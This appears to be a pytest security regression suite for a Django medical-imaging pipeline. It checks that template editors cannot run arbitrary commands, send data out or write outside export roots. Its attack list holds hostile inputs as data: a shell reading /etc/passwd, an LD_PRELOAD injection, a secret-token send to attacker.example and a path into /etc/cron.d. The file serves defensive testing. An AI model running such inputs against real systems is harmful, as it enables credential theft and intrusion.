"""Issue 14, item 1: a template is not code execution, and reaches only what the operator configured.

Attack reproduced: a staff user allowed only to edit templates made an ``external.command`` template
that ran an arbitrary program with the server's full environment. Now templates NAME a command, an
HTTP endpoint or a DICOM node of the operator's registry (``processors.json``) and folders inside its
export roots; anything else is refused when the template is saved (API 400, admin form error), and
a registered command runs with a minimal environment in its job's folder (a real job on the real
Celery worker dumps what the command sees). DICOM nodes are created by superusers only.
"""

from __future__ import annotations

import html
import json
import os
import sys
import textwrap
import time

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from rest_framework.test import APIClient

from dicomflow.accounts.services import create_api_key
from dicomflow.catalog.models import Series
from dicomflow.export.models import DicomNode
from dicomflow.intake.services import import_paths
from dicomflow.processing import services, tasks
from dicomflow.processing.models import Job, JobStatus, LogEntry, Template
from dicomflow.testing.synth import PatientSpec, write_image_series
from fixtures_celery import wait_for

PATIENT = PatientSpec("REACH-PAT-01", "Reach^Rita", "F", "19800101")

DUMP_ENV = textwrap.dedent("""
    import json, os, sys
    dump, input_dir = sys.argv[1], sys.argv[2]
    with open(dump, "w") as fh:
        json.dump({"env": dict(os.environ), "cwd": os.getcwd(), "stdin": sys.stdin.read(),
                   "input": sorted(os.path.relpath(os.path.join(d, f), input_dir) for d, _, fs in os.walk(input_dir) for f in fs),
                   "input_dir": input_dir}, fh)
""")


def _editor(django_user_model, name="tpl-editor"):
    """Staff allowed only to add/change/view templates (no project, no superuser)."""
    user = django_user_model.objects.create_user(name, password="pw-editor-123", is_staff=True)
    user.user_permissions.set(Permission.objects.filter(
        content_type__app_label="processing", codename__in=["add_template", "change_template", "view_template"]))
    return django_user_model.objects.get(pk=user.pk)


def _api(user) -> APIClient:
    _, key = create_api_key(user, user)
    client = APIClient()
    client.credentials(HTTP_X_API_KEY=key)
    return client


def _ct(tmp_path, seed):
    info = write_image_series(tmp_path / "ct", patient=PATIENT, n_slices=12, rows=32, cols=32, seed=seed)
    import_paths([tmp_path / "ct"], workers=1)
    return info, Series.objects.get(series_instance_uid=info.series_uid)


ATTACKS = [
    ({"processor": "external.command", "parameters": {"command": ["/bin/sh", "-c", "cat /etc/passwd"]}},
     "an argv list is not allowed"),
    ({"processor": "external.command", "parameters": {"command": "seg", "env": {"LD_PRELOAD": "/tmp/x.so"}}},
     "parameter 'env' is not allowed"),
    ({"processor": "external.command", "parameters": {"command": "rm-everything"}},
     "not a command the operator registered"),
    ({"processor": "remote.http", "parameters": {"url": "https://attacker.example/", "token_env": "DICOMFLOW_SECRET_KEY"}},
     "parameter 'url' is not allowed"),
    ({"processor": "remote.http", "parameters": {"endpoint": "nowhere"}}, "not an HTTP endpoint the operator registered"),
    ({"processor": "remote.dicom_node", "parameters": {"node": "evil"}}, "not a configured DICOM node"),
    ({"processor": "remote.dicom_node", "parameters": {"ae_title": "X", "host": "10.0.0.1", "port": 104}},
     "parameter 'host' is not allowed"),
    ({"processor": "builtin.ct_body_lungs", "destinations": [{"type": "folder", "path": "/etc/cron.d"}]},
     "outside the allowed export roots"),
    ({"processor": "builtin.ct_body_lungs", "destinations": [{"type": "dicom", "ae_title": "X", "host": "10.0.0.1",
                                                               "port": 104}]}, "names a configured node"),
]


@pytest.mark.django_db
@pytest.mark.parametrize("definition, reason", ATTACKS, ids=[a[1][:30] for a in ATTACKS])
def test_template_editor_cannot_save_what_the_operator_did_not_configure(definition, reason, django_user_model,
                                                                         processors_registry, tmp_path, client):
    processors_registry(commands={"seg": {"argv": ["/bin/true", "{input}", "{output}"]}},
                        http_endpoints={"draw": {"url": "https://draw.example/api"}}, export_roots=[tmp_path])
    editor = _editor(django_user_model)
    response = _api(editor).post("/api/templates/", {"name": "attack", "definition": definition}, format="json")
    assert response.status_code == 400, response.content
    assert reason in response.json()["detail"]
    assert not Template.objects.filter(name="attack").exists()
    # the admin form refuses it too, with the reason
    client.force_login(editor)
    page = client.post(reverse("admin:processing_template_add"), {"name": "attack", "definition": json.dumps(definition)})
    assert page.status_code == 200 and reason in html.unescape(page.content.decode())
    assert not Template.objects.filter(name="attack").exists()


@pytest.mark.django_db
def test_template_editor_may_name_what_the_operator_configured(django_user_model, processors_registry, tmp_path):
    processors_registry(commands={"seg": {"argv": ["/bin/true", "{input}", "{output}"]}},
                        http_endpoints={"draw": {"url": "https://draw.example/api"}}, export_roots=[tmp_path])
    DicomNode.objects.create(name="pacs", ae_title="PACS", host="127.0.0.1", port=11112)
    api = _api(_editor(django_user_model))
    for name, definition in {
        "ok-command": {"processor": "external.command", "parameters": {"command": "seg", "structure_set_label": "A"}},
        "ok-http": {"processor": "remote.http", "parameters": {"endpoint": "draw", "options": {"model": "x"}}},
        "ok-node": {"processor": "remote.dicom_node", "parameters": {"node": "pacs"}},
        "ok-dest": {"processor": "builtin.ct_body_lungs", "destinations": [
            {"type": "folder", "path": str(tmp_path / "out")}, {"type": "dicom", "node": "pacs"}]},
    }.items():
        response = api.post("/api/templates/", {"name": name, "definition": definition}, format="json")
        assert response.status_code == 201, response.content
    # editing a saved template into an argv list is refused as well
    response = api.patch("/api/templates/ok-command/", {"definition": {
        "processor": "external.command", "parameters": {"command": ["/usr/bin/id"]}}}, format="json")
    assert response.status_code == 400
    assert Template.objects.get(name="ok-command").definition["parameters"]["command"] == "seg"


@pytest.mark.django_db(transaction=True)
def test_a_registered_command_sees_a_minimal_environment_on_the_worker(tmp_path, celery_worker_process,
                                                                       processors_registry):
    services.ensure_builtin_templates()
    script = tmp_path / "dump_env.py"
    script.write_text(DUMP_ENV)
    dump = tmp_path / "dump.json"
    processors_registry(commands={"dump-env": {"argv": [sys.executable, str(script), str(dump), "{input}"],
                                               "timeout_seconds": 60, "env": {"MODEL_DIR": "/opt/model"}}})
    Template.objects.create(name="dump-env", definition={"processor": "external.command",
                                                         "parameters": {"command": "dump-env"}})
    info, series = _ct(tmp_path, "reach-env")
    job = services.create_job(project_key="REACH", series_id=series.id, template_name="dump-env")
    tasks.start_job(job.pk)
    job = wait_for(lambda: Job.objects.filter(pk=job.pk, status__in=(JobStatus.FAILED, JobStatus.FINISHED)).first(),
                   timeout=120, worker=celery_worker_process, what="the job to end")
    assert "wrote nothing into the output folder" in job.error, job.error  # the command itself succeeded
    seen = json.loads(dump.read_text())
    env = seen["env"]
    assert set(env) == {"PATH", "LANG", "LC_ALL", "HOME", "TMPDIR", "MODEL_DIR"}, sorted(env)
    assert env["PATH"] == "/usr/bin:/bin" and env["LANG"] == env["LC_ALL"] == "C.UTF-8"
    assert env["MODEL_DIR"] == "/opt/model"
    from django.conf import settings

    jobs = (settings.WORK_DIR / "jobs" / str(job.pk)).resolve()
    for where in (env["HOME"], env["TMPDIR"], seen["cwd"], seen["input_dir"]):
        assert os.path.realpath(where).startswith(str(jobs) + os.sep), where  # inside its job's folder
        assert str(settings.KEYS_DIR) not in where  # no way to the project keys through cwd or env
    # nothing of the worker's own environment (database URL, home, tokens) reached the command
    canary = os.environ["DICOMFLOW_TOKEN_TEST_CANARY"]
    text = json.dumps(env)
    for secret in (canary, celery_worker_process.database, str(settings.SECRET_KEY)):
        assert secret not in text
    assert seen["stdin"] == ""
    # the command saw its job's de-identified series only
    assert len(seen["input"]) == 12 and not any(PATIENT.patient_id in name for name in seen["input"])


@pytest.mark.django_db
def test_a_timed_out_command_is_killed_with_its_children(tmp_path, processors_registry, monkeypatch):
    services.ensure_builtin_templates()
    mark = tmp_path / "child-survived"
    processors_registry(commands={"forks": {"argv": ["/bin/sh", "-c", f"(sleep 2; touch {mark}) & sleep 30"],
                                            "timeout_seconds": 1}})
    monkeypatch.setenv("DICOMFLOW_SECRET_KEY", "do-not-leak")
    Template.objects.create(name="forks", definition={"processor": "external.command",
                                                      "parameters": {"command": "forks"}})
    _, series = _ct(tmp_path, "reach-timeout")
    job = services.run_job_inline(services.create_job(project_key="REACH", series_id=series.id,
                                                      template_name="forks").pk)
    assert job.status == JobStatus.FAILED and "did not finish within 1 s" in job.error
    time.sleep(2.5)
    assert not mark.exists()  # the whole process group was killed, not only the shell


@pytest.mark.django_db
def test_a_stored_argv_template_is_marked_and_fails_with_a_clear_message(tmp_path):
    """The data migration turns templates that ran an argv list into ones that cannot run."""
    import importlib

    from django.apps import apps

    services.ensure_builtin_templates()
    row = Template.objects.create(name="old-argv", definition={"processor": "builtin.ct_body_lungs"})
    Template.objects.filter(pk=row.pk).update(definition={  # as an old release stored it
        "processor": "external.command", "parameters": {"command": ["/bin/sh", "-c", "env"], "env": {"A": "1"}}})
    migration = importlib.import_module("dicomflow.processing.migrations.0004_h1_unregistered_commands")
    migration.mark(apps, None)
    params = Template.objects.get(pk=row.pk).definition["parameters"]
    assert params == {"command": "(unregistered)"}  # processing.registry.UNREGISTERED_COMMAND
    _, series = _ct(tmp_path, "reach-marked")
    job = services.run_job_inline(services.create_job(project_key="REACH", series_id=series.id,
                                                      template_name="old-argv").pk)
    assert job.status == JobStatus.FAILED
    assert "this template runs a command the operator has not registered" in job.error


@pytest.mark.django_db
def test_output_folder_outside_the_export_roots_is_refused(tmp_path, django_user_model, client,
                                                           processors_registry):
    services.ensure_builtin_templates()
    processors_registry(export_roots=[tmp_path / "exports"])
    (tmp_path / "exports").mkdir()
    _, series = _ct(tmp_path, "reach-out")
    admin = django_user_model.objects.create_superuser("root-admin", "a@example.org", "pw-admin-123")
    client.force_login(admin)
    form = {"series": series.pk, "project_key": "REACH", "template": "", "input_path": "",
            "out_dir": "/etc/dicomflow-leak"}
    page = client.post(reverse("admin:processing_job_add"), form)
    assert page.status_code == 200 and "outside the allowed export roots" in html.unescape(page.content.decode())
    assert not Job.objects.exists()
    form["out_dir"] = str(tmp_path / "exports" / "ok")
    assert client.post(reverse("admin:processing_job_add"), form).status_code == 302
    assert Job.objects.get().out_dir == str((tmp_path / "exports" / "ok").resolve())
    # a template destination edited to point outside the roots after the fact fails the export, not the disk
    Template.objects.filter(name="ct-body-lungs").update(definition={
        **Template.objects.get(name="ct-body-lungs").definition,
        "destinations": [{"type": "folder", "path": str(tmp_path / "elsewhere")}]})
    job = services.run_job_inline(services.create_job(project_key="REACH", series_id=series.id).pk)
    assert job.status == JobStatus.FAILED and "outside the allowed export roots" in job.error
    assert not (tmp_path / "elsewhere").exists()


@pytest.mark.django_db
def test_only_superusers_create_or_change_dicom_nodes(client, django_user_model):
    staff = django_user_model.objects.create_user("node-staff", password="pw-staff-123", is_staff=True)
    staff.user_permissions.set(Permission.objects.filter(content_type__app_label="export"))  # every node permission
    client.force_login(staff)
    form = {"name": "exfil", "ae_title": "EVIL", "host": "203.0.113.9", "port": "104", "our_ae_title": "DICOMFLOW",
            "enabled": "on"}
    assert client.post(reverse("admin:export_dicomnode_add"), form).status_code == 403
    assert not DicomNode.objects.filter(name="exfil").exists()
    node = DicomNode.objects.create(name="pacs", ae_title="PACS", host="127.0.0.1", port=11112)
    response = client.post(reverse("admin:export_dicomnode_change", args=[node.pk]), {**form, "name": "pacs"})
    assert response.status_code == 403
    assert DicomNode.objects.get(pk=node.pk).host == "127.0.0.1"
    assert client.get(reverse("admin:export_dicomnode_changelist")).status_code == 200  # may still look
    admin = django_user_model.objects.create_superuser("node-admin", "n@example.org", "pw-admin-123")
    client.force_login(admin)
    assert client.post(reverse("admin:export_dicomnode_add"), form).status_code == 302
    assert DicomNode.objects.filter(name="exfil").exists()
    assert not LogEntry.objects.exists()  # (nothing of processing touched)
